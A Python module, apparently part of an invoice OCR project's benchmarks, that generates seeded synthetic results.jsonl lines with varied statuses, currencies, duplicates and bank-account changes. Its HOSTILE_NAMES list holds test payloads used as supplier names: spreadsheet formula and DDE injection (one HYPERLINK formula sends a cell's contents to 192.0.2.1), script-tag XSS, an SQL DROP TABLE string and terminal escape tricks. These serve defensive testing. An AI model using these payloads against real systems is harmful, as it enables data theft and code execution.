"""Lines of results.jsonl that nobody read from paper: as many as are asked for, varied, the same for the same seed.

    python -m benchmarks.results_lines 100000 > results.jsonl

Among them: four currencies, suppliers with names that try to be formulas, markup or terminal commands, every status,
files that come a second time, twins, changed bank accounts, sums that do not add up, fields that were not found.
"""

from __future__ import annotations

import argparse
import hashlib
import random
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Final

import orjson

from batch_ocr.errors import ErrorCode
from batch_ocr.invoice.fields import FIELD_NAMES

SUPPLIERS: Final = 300
_FIRST_NIGHT: Final = datetime(2026, 1, 5, 2, 0, tzinfo=UTC)
_PER_NIGHT: Final = 500
_MIDDLE: Final = ("Brook", "Falken", "Hasel", "Linden", "Marl", "Nord", "Quill", "Sella", "Tannen", "Vesper", "Wren")
_END: Final = ("bach", "feld", "ford", "gate", "heim", "ley", "mark", "rand", "stein", "tal", "wick", "worth")
_TOWNS: Final = (("DE", "20095 Hamburg"), ("GB", "Leeds LS1 7KB"), ("CH", "8001 Zürich"), ("PL", "00-950 Warszawa"))
_MONEY: Final = {"DE": ("eur", 19), "GB": ("gbp", 20), "CH": ("chf", 8.1), "PL": ("pln", 23)}
_LEGAL_FORM: Final = {"DE": "GmbH", "GB": "Limited", "CH": "AG", "PL": "Sp. z o.o."}

HOSTILE_NAMES: Final = (
    '=HYPERLINK("http://192.0.2.1/?"&A1,"Pay here")',
    "+49 40 123456 Hotline",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTab GmbH",
    "\rReturn GmbH",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    '"Quotes", commas; and\nlines Ltd',
    "\x1b[31mRed\x1b[0m & Söhne KG",
    "\u202egnp.eciovni AG",
    "株式会社サンプル商事",
    "Café Zoë 🧾 S.à r.l.",
    "O'Robert'); DROP TABLE invoices;--",
    "Long Name " + "x" * 3000,
    "http://192.0.2.1/invoice",
)
"""What a page can say where a supplier's name stands."""


@dataclass(frozen=True, slots=True)
class Supplier:
    """Who sends invoices, the same on each of them."""

    name: str
    country: str
    address: str
    tax_id: str
    account: str
    """An IBAN with right check digits."""


def synthetic_lines(count: int, seed: int = 0) -> Iterator[bytes]:
    r"""Yield `count` lines valid by the schema, each with its `\n`, in the order of their times.

    One line in forty is a later line for a file that came before; memory does not grow with `count`.
    """
    chance = random.Random(seed)
    suppliers = [_supplier(chance, number) for number in range(SUPPLIERS)]
    for number in range(count):
        again = number > 100 and chance.random() < 0.025
        name_of = number - chance.randrange(1, 100) if again else number
        record = _record(chance, suppliers, number, name_of)
        yield orjson.dumps(record, option=orjson.OPT_APPEND_NEWLINE)


def _supplier(chance: random.Random, number: int) -> Supplier:
    country, town = _TOWNS[number % len(_TOWNS)]
    plain = f"{chance.choice(_MIDDLE)}{chance.choice(_END)} {number} {_LEGAL_FORM[country]}"
    hostile = HOSTILE_NAMES[number // 10] if number % 10 == 3 and number // 10 < len(HOSTILE_NAMES) else None
    return Supplier(
        hostile or plain,
        country,
        f"{chance.choice(_MIDDLE)} Street {chance.randrange(1, 200)}, {town}",
        f"{country}{chance.randrange(10**8, 10**9)}",
        _iban(chance, country),
    )


def _iban(chance: random.Random, country: str) -> str:
    account = {
        "DE": f"{chance.randrange(10**17, 10**18)}",
        "GB": f"NWBK{chance.randrange(10**13, 10**14)}",
        "CH": f"{chance.randrange(10**16, 10**17)}",
        "PL": f"{chance.randrange(10**23, 10**24)}",
    }[country]
    spelled = "".join(str(int(char, 36)) for char in f"{account}{country}00")
    return f"{country}{98 - int(spelled) % 97:02}{account}"


def _record(chance: random.Random, suppliers: list[Supplier], number: int, name_of: int) -> dict[str, object]:
    status = chance.choices(("completed", "failed", "rejected", "duplicate"), (88, 4, 3, 5))[0]
    if number < 10:
        status = "completed"
    twin = number - chance.randrange(1, 9) if number >= 10 else None
    read = status == "completed"
    sent = status in {"completed", "failed"}
    engine = "local" if chance.random() < 0.7 else "aspose"
    at = _FIRST_NIGHT + timedelta(days=number // _PER_NIGHT, milliseconds=1371 * (number % _PER_NIGHT))
    invoice = _invoice(chance, chance.choice(suppliers), at) if read else None
    return {
        "schema": 1,
        "file": _name(name_of),
        "sha256": None if status == "rejected" else _sha256(twin if status == "duplicate" and twin else name_of),
        "status": status,
        "invoice": invoice,
        **_why(chance, status, twin),
        "warnings": ["vat has a value that cannot be used and is left out"] if read and chance.random() < 0.01 else [],
        "invoice_number": f"R{at.year}-{number:07}" if read and chance.random() < 0.9 else None,
        "confidence": _confidence(chance, invoice) if invoice and engine == "local" else None,
        "checks": _checks(chance, twin) if read else [],
        "engine": engine,
        "task_id": f"00000000-0000-4000-8000-{number:012x}" if sent else None,
        "submitted_at": _timestamp(at) if sent else None,
        "completed_at": _timestamp(at + timedelta(milliseconds=chance.randrange(800, 9000))),
        "attempts": 1 + (chance.random() < 0.02) if sent else 0,
        "polls": chance.randrange(1, 9) if sent else 0,
    }


def _name(number: int) -> str:
    return f"2026/{number // _PER_NIGHT:04}/scan-{number:07}.png"


def _sha256(number: int) -> str:
    return hashlib.sha256(b"%d" % number).hexdigest()


def _timestamp(moment: datetime) -> str:
    return moment.isoformat(timespec="milliseconds").removesuffix("+00:00") + "Z"


def _why(chance: random.Random, status: str, twin: int | None) -> dict[str, object]:
    match status:
        case "duplicate":
            return {"duplicate_of": _name(twin or 0)}
        case "failed":
            code, retryable = chance.choice(((ErrorCode.RECOGNITION, False), (ErrorCode.UNAVAILABLE, True)))
            return {"error": {"code": code, "messages": ["the service gave up"], "retryable": retryable}}
        case "rejected":
            code = chance.choice((ErrorCode.CORRUPT, ErrorCode.EMPTY, ErrorCode.ENCRYPTED))
            return {"error": {"code": code, "messages": ["cannot be an invoice"], "retryable": False}}
        case _:
            return {}


def _invoice(chance: random.Random, supplier: Supplier, at: datetime) -> dict[str, object]:
    currency, rate = _MONEY[supplier.country]
    net = Decimal(int(chance.lognormvariate(11, 1.3))) / 100
    total = (net * (100 + Decimal(str(rate))) / 100).quantize(Decimal("0.01"))
    if chance.random() < 0.02:
        total += 10
    issued = at.date() - timedelta(days=chance.randrange(1, 25))
    due = issued + timedelta(days=chance.choice((10, 14, 30, 30, 60, -3)))
    values: dict[str, object] = {
        "issue_date": issued.isoformat(),
        "due_date": due.isoformat() if chance.random() < 0.85 else None,
        "supplier_name": supplier.name,
        "supplier_address": supplier.address,
        "supplier_email": "billing@example.net",
        "supplier_phone": "+49 40 5550 0199",
        "supplier_tax_id": supplier.tax_id,
        "receiver_name": "Trevossa Analytics plc",
        "receiver_address": "110 Old Chapel Road\nBristol BS1 4DJ",
        "receiver_tax_id": "GB956776067",
        "currency": currency,
        "total_amount": orjson.Fragment(str(total)),
        "vat": rate,
        "net_amount": orjson.Fragment(f"{net:.2f}"),
        "bank_name": "First Yarrowgate Bank",
        "bic": None,
        "account": supplier.account,
    }
    for key in chance.sample(FIELD_NAMES, chance.choice((0, 0, 1, 3))):
        values[key] = None
    return values


def _confidence(chance: random.Random, invoice: dict[str, object]) -> dict[str, float]:
    read = [key for key, value in invoice.items() if value is not None]
    return {key: round(1 - min(0.95, chance.expovariate(12)), 3) for key in (*read, "invoice_number")}


def _checks(chance: random.Random, twin: int | None) -> list[dict[str, object]]:
    if twin is None or chance.random() > 0.04:
        return []
    code, verdict, fields = chance.choice(
        (
            ("rescanned", "wrong", []),
            ("same-invoice", "wrong", ["supplier_tax_id", "issue_date", "total_amount"]),
            ("bank-account-changed", "unclear", ["account"]),
        )
    )
    finding: dict[str, object] = {"code": code, "verdict": verdict, "fields": fields}
    finding["message"] = f"compare with {_name(twin)}"
    if code == "bank-account-changed":
        finding["expected"] = "DE02120300000000202051"
    return [finding | {"twin": _name(twin)}]


def main() -> None:
    """Write the lines to stdout."""
    parser = argparse.ArgumentParser(prog="python -m benchmarks.results_lines", description=__doc__)
    parser.add_argument("count", type=int)
    parser.add_argument("--seed", type=int, default=0)
    given = parser.parse_args()
    sys.stdout.buffer.writelines(synthetic_lines(given.count, given.seed))


if __name__ == "__main__":
    main()
